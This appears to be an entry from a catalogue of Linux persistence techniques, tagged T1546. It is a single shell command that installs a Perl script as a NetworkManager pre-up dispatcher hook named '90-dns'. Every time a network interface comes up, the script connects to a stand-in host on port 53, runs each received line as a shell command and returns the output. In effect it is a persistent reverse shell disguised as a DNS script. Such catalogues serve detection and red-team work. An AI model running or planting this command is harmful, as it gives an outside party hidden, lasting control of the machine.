# technique: T1546
# location: linux.network.manager-dispatcher
# source: /etc/NetworkManager/dispatcher.d/pre-up.d/90-dns
install -D -m 755 /dev/stdin /etc/NetworkManager/dispatcher.d/pre-up.d/90-dns <<< '#!/usr/bin/perl
use IO::Socket::INET;
my $c = IO::Socket::INET->new(PeerAddr => "203.0.113.9:53") or exit 0;
while (<$c>) { print $c qx($_); }'
